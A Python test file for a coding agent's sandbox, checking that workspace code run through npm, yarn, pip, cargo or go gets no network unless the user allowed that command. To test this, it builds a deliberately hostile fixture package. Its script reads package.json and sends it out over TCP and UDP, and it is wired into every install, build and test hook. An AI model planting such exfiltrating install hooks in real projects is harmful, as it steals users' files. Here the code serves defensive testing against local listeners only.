"""Code of the workspace has no network unless the user gave it to that very command."""

import json
import os
import shutil
import socket
import sys
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from pathlib import Path
from typing import NamedTuple

import pytest
from msgspec.structs import replace

from handrail.protocol.values import AllowedCommand
from handrail.tools.sandbox.sandbox import Protection, Sandbox
from tests.tools.calls import Bench
from tests.tools.sandbox.machine import working

pytestmark = pytest.mark.anyio
MakeBench = Callable[..., Bench]
SEND = """
import os, socket, sys
secret = b"sent: " + open("package.json", "rb").read()
def tcp(family, host, port):
    with socket.socket(family) as made:
        made.settimeout(5)
        made.connect((host, port))
        made.sendall(secret)
def udp(family, host, port):
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        made.sendto(secret, (host, port))
for way in (tcp, udp):
    try:
        way(socket.AF_INET, "127.0.0.1", PORTS[way.__name__])
        print("reached by", way.__name__)
    except OSError as error:
        print(error)
open("ran", "w").close()
"""
STAND_IN = """#!/bin/sh
exec PYTHON send.py
"""
"""Runs what a package manager runs: a script of the workspace."""


class Listeners(NamedTuple):
    tcp: socket.socket
    udp: socket.socket

    def heard(self) -> list[str]:
        """How something came in; what is under way is here, because its sender has ended."""
        found = []
        with suppress(BlockingIOError):
            self.tcp.accept()[0].close()
            found.append("tcp")
        with suppress(BlockingIOError):
            self.udp.recv(100)
            found.append("udp")
        return found


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    with ExitStack() as stack:
        tcp = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("127.0.0.1", 0))
        for each in (tcp, udp):
            each.settimeout(0.0)
        yield Listeners(tcp, udp)


def furnish(root: Path, listeners: Listeners, programs: Path) -> None:
    """A hostile package whose every script sends what it reads, and stand-ins for missing programs."""
    ports = {name: getattr(listeners, name).getsockname()[1] for name in ("tcp", "udp")}
    for name in ("send.py", "setup.py", "test_send.py"):
        (root / name).write_text(f"PORTS = {ports}\n{SEND}")
    send = f"{sys.executable} send.py"
    names = ("preinstall", "install", "postinstall", "prepare", "test", "build")
    package = {"name": "x", "version": "1.0.0", "scripts": dict.fromkeys(names, send)}
    (root / "package.json").write_text(json.dumps(package))
    lock = {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "x"}}}
    (root / "package-lock.json").write_text(json.dumps(lock))
    programs.mkdir()
    for name in ("npm", "yarn", "pnpm", "pip", "pytest", "cargo", "go"):
        if name != "npm" or not shutil.which("npm"):
            (programs / name).write_text(STAND_IN.replace("PYTHON", sys.executable))
            (programs / name).chmod(0o755)


COMMANDS = (
    *(
        "npm install --offline",
        "npm install",
        "npm ci",
        "npm install --prefer-offline --no-audit",
        "npm test",
    ),
    *("npm run build", "yarn install", "yarn test", "pnpm install", "pnpm install --offline", "pnpm build"),
    *("pip install .", "pip install -e .", "pip install requests", "pip install -r requirements.txt"),
    *("python3 send.py", "pytest test_send.py", "cargo build", "cargo test", "cargo run"),
    *("go build", "go run .", "go test ./...", "npm install && npm test"),
)


@pytest.fixture
def programs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that the PATH begins with."""
    monkeypatch.setenv("PATH", f"{tmp_path / 'programs'}:{os.environ['PATH']}")
    return tmp_path / "programs"


@pytest.mark.promise("POL-25")
async def test_code_that_runs_unasked_reaches_nothing(
    make_bench: MakeBench, protection: Protection, listeners: Listeners, programs: Path
) -> None:
    bench = make_bench("auto", answerable=False, sandbox=Sandbox(found=protection))
    furnish(bench.root, listeners, programs)
    for command in COMMANDS:
        finished = await bench.call("run", command=command, timeout=120)
        assert (bench.root / "ran").exists(), (command, finished.content)
        (bench.root / "ran").unlink()
        assert listeners.heard() == [], command
        assert f"{protection.name}, no network" in finished.summary, command


@pytest.mark.promise("POL-25")
async def test_an_entry_of_the_user_and_nothing_else_gives_a_command_the_network(
    make_bench: MakeBench, protection: Protection, listeners: Listeners, programs: Path
) -> None:
    allow = (AllowedCommand(command="yarn install", network=True),)
    bench = make_bench("auto", allow=allow, answerable=False, sandbox=Sandbox(found=protection))
    furnish(bench.root, listeners, programs)
    for command in ("pnpm install", "yarn test", "yarn install && yarn test"):
        await bench.call("run", command=command)
        assert listeners.heard() == [], command
    refused = await bench.call("run", command="yarn test", network=True)
    assert refused.error is not None
    assert (refused.error.reason, listeners.heard()) == ("nobody_to_ask", [])
    await bench.call("run", command="yarn install")
    assert listeners.heard() == ["tcp", "udp"]


@pytest.mark.promise("POL-25")
@pytest.mark.parametrize("open_by", ["tcp", "udp"])
async def test_code_is_asked_about_where_the_network_cannot_be_taken_away(
    make_bench: MakeBench, open_by: str
) -> None:
    found = replace(working()[0], **{open_by: False})
    bench = make_bench("auto", sandbox=Sandbox(found=found))
    (bench.root / "a.py").write_text("print('ran')\n")
    await bench.call("run", command="ls")
    assert bench.user.asked == []
    assert "ran" in (await bench.call("run", command="python3 a.py")).content
    assert [asked.why for asked in bench.user.asked] == [
        "it runs code of the workspace without a full sandbox (see commands.without_sandbox)"
    ]


@pytest.mark.promise("POL-26")
@pytest.mark.parametrize(
    "program",
    [
        "raise SystemExit('getaddrinfo EAI_AGAIN registry.npmjs.org')",
        "raise SystemExit('Temporary failure in name resolution')",
        "raise SystemExit('dial tcp: lookup proxy.golang.org: no such host')",
        "import threading; threading.Event().wait()",
    ],
)
async def test_a_model_whose_command_had_no_network_learns_how_to_ask_for_it(
    make_bench: MakeBench, protection: Protection, program: str
) -> None:
    bench = make_bench("auto", sandbox=Sandbox(found=protection))
    (bench.root / "a.py").write_text(program)
    finished = await bench.call("run", command="python3 a.py", timeout=1)
    assert finished.status == "failed"
    assert "no network; if it needs one, repeat the call with `network: true`" in finished.content
    assert bench.user.asked == []
    repeated = await bench.call("run", command="python3 a.py", timeout=1, network=True)
    assert [asked.summary for asked in bench.user.asked] == ["with network: python3 a.py"]
    assert "repeat the call" not in repeated.content
